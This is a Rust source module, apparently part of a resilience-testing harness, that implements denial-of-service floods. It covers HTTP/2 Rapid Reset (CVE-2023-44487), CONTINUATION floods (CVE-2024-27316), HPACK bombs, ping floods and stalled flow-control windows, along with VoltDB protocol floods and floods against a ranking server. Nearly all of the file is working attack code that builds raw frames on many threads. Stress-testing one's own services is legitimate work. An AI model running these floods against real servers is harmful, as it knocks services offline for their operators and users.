//! Floods of HTTP/2, of VoltDB's protocol and of the ranking server's frames.

use super::{Endpoint, Ground};
use std::io::Read;
use std::net::TcpStream;
use std::time::Duration;

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The first bytes of a client of HTTP/2, with one setting.
fn greeting(name: u16, value: u32) -> Vec<u8> {
    let setting = [&name.to_be_bytes()[..], &value.to_be_bytes()].concat();
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(4, 0, 0, &setting)].concat()
}

/// GET of a path, as a header block: indexed method and scheme, the path and the authority in full.
fn block(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x04, path.len() as u8];
    block.extend(path.as_bytes());
    block.extend([0x01, 1, b'h']);
    block
}

/// Streams that are opened and reset at once (CVE-2023-44487).
pub fn rapid_reset(ground: &Ground<'_>) {
    ground.on_threads(8, || {
        while !ground.is_over() {
            let Ok(mut stream) = ground.connect() else { continue };
            let mut goes_on = ground.send(&mut stream, &greeting(3, 100));
            let mut id = 1;
            while goes_on && id < 1 << 30 {
                let mut frames = Vec::new();
                for _ in 0..500 {
                    frames.extend(frame(1, 5, id, &block("/")));
                    frames.extend(frame(3, 0, id, &8u32.to_be_bytes()));
                    id += 2;
                }
                goes_on = ground.send(&mut stream, &frames);
            }
        }
    });
}

/// A header block without end (CVE-2024-27316).
pub fn continuations(ground: &Ground<'_>) {
    let first = [greeting(3, 100), frame(1, 0, 1, &block("/"))].concat();
    let mut field = vec![0, 1, b'x', 100];
    field.extend([b'y'; 100]);
    let again = frame(9, 0, 1, &field);
    ground.on_threads(8, || ground.pour(&first, &again));
}

/// Questions about the connection whose answers are not read.
pub fn pings(ground: &Ground<'_>) {
    let both = [frame(6, 0, 0, b"are you?"), frame(4, 0, 0, &[])].concat();
    ground.on_threads(8, || ground.pour(&greeting(3, 100), &both));
}

/// An entry of a table that is named thousands of times in each block.
pub fn hpack_bombs(ground: &Ground<'_>) {
    let mut entry = block("/");
    entry.extend([0x40, 1, b'b', 0x7f, 0xa1, 0x1e]);
    entry.extend([b'b'; 4_000]);
    ground.on_threads(8, || {
        while !ground.is_over() {
            let Ok(mut stream) = ground.connect() else { continue };
            let first = [greeting(3, 100), frame(1, 5, 1, &entry)].concat();
            let mut goes_on = ground.send(&mut stream, &first);
            let mut id = 3;
            let mut bomb = block("/");
            bomb.extend([0xbe; 16_000]);
            while goes_on && id < 1 << 30 {
                goes_on = ground.send(&mut stream, &frame(1, 5, id, &bomb));
                id += 2;
            }
        }
    });
}

/// Long replies are asked for on a thousand streams of each connection, and windows stay closed.
pub fn closed_windows(ground: &Ground<'_>) {
    let connections = ground.connections.min(200);
    let mut held = Vec::new();
    while held.len() < connections && !ground.is_over() {
        let Ok(mut stream) = ground.connect() else { continue };
        let mut frames = greeting(4, 0);
        for id in 0..900 {
            frames.extend(frame(1, 5, 2 * id + 1, &block("/metrics")));
        }
        ground.send(&mut stream, &frames);
        held.push(stream);
    }
    // What comes is read, so that only the windows hold the replies back.
    let mut buffer = [0; 16_384];
    while !ground.is_over() {
        for stream in &mut held {
            let _ = stream.set_read_timeout(Some(Duration::from_millis(1)));
            while matches!(stream.read(&mut buffer), Ok(1..)) {}
        }
    }
}

/// Bodies on a thousand streams of each connection that do not end.
pub fn unfinished_bodies(ground: &Ground<'_>) {
    let mut held = Vec::new();
    while !ground.is_over() {
        if held.len() >= ground.connections.min(100) {
            std::thread::sleep(Duration::from_millis(20));
            continue;
        }
        let Ok(mut stream) = ground.connect() else { continue };
        let mut head = vec![0x83, 0x86, 0x04, 6];
        head.extend(b"/_bulk");
        head.extend([0x01, 1, b'h']);
        let mut frames = greeting(3, 100);
        for id in 0..500 {
            frames.extend(frame(1, 4, 2 * id + 1, &head));
            frames.extend(frame(0, 0, 2 * id + 1, &[b'{'; 16_000]));
        }
        ground.send(&mut stream, &frames);
        held.push(stream);
    }
}

/// A message of VoltDB's protocol.
fn message(body: &[u8]) -> Vec<u8> {
    [&(body.len() as u32).to_be_bytes()[..], body].concat()
}

/// A login without a user.
fn login() -> Vec<u8> {
    let mut body = vec![1, 1];
    body.extend(8u32.to_be_bytes());
    body.extend(b"database");
    body.extend(0u32.to_be_bytes());
    body.extend([0; 32]);
    message(&body)
}

/// A call without parameters.
fn call(procedure: &str) -> Vec<u8> {
    let mut body = vec![0];
    body.extend((procedure.len() as u32).to_be_bytes());
    body.extend(procedure.as_bytes());
    body.extend([0; 8]);
    body.extend([0, 0]);
    message(&body)
}

/// An honest login of VoltDB's protocol.
///
/// # Errors
/// When it is not answered.
pub fn volt(endpoint: &Endpoint, patience: Duration) -> std::io::Result<()> {
    use std::io::Write;
    let mut stream = TcpStream::connect_timeout(&endpoint.address, patience)?;
    stream.set_read_timeout(Some(patience))?;
    stream.write_all(&[login(), call("@Ping")].concat())?;
    let mut length = [0; 4];
    for _ in 0..2 {
        stream.read_exact(&mut length)?;
        let mut body = vec![0; u32::from_be_bytes(length).min(1 << 20) as usize];
        stream.read_exact(&mut body)?;
    }
    Ok(())
}

/// Logins whose length is 2^31 - 1, and ones that do not end.
pub fn volt_lengths(ground: &Ground<'_>) {
    ground.on_threads(8, || ground.pour(&0x7fff_ffffu32.to_be_bytes(), b"x"));
}

/// Calls of 50 MiB on many connections, none of which ends.
pub fn volt_unfinished_calls(ground: &Ground<'_>) {
    let first = [login(), (50u32 << 20).to_be_bytes().to_vec()].concat();
    ground.on_threads(ground.connections.min(64), || ground.pour(&first, &[0; 4_096]));
}

/// Calls with long answers, which are not read.
pub fn volt_unread_answers(ground: &Ground<'_>) {
    let calls =
        [call("@Statistics"), call("@SystemCatalog"), call("Results"), call("@SystemInformation")]
            .concat();
    ground.on_threads(64, || ground.pour(&login(), &calls));
}

/// Frames of the ranking server whose payload is 2^32 - 1 bytes.
pub fn rank_lengths(ground: &Ground<'_>) {
    let mut first = vec![0; 24];
    first[20..].fill(0xff);
    ground.on_threads(8, || ground.pour(&first, &[0xff; 4_096]));
}

/// Requests of the ranking server whose replies are not read.
pub fn rank_unread_replies(ground: &Ground<'_>) {
    ground.on_threads(64, || ground.pour(b"", &[0; 4_096]));
}
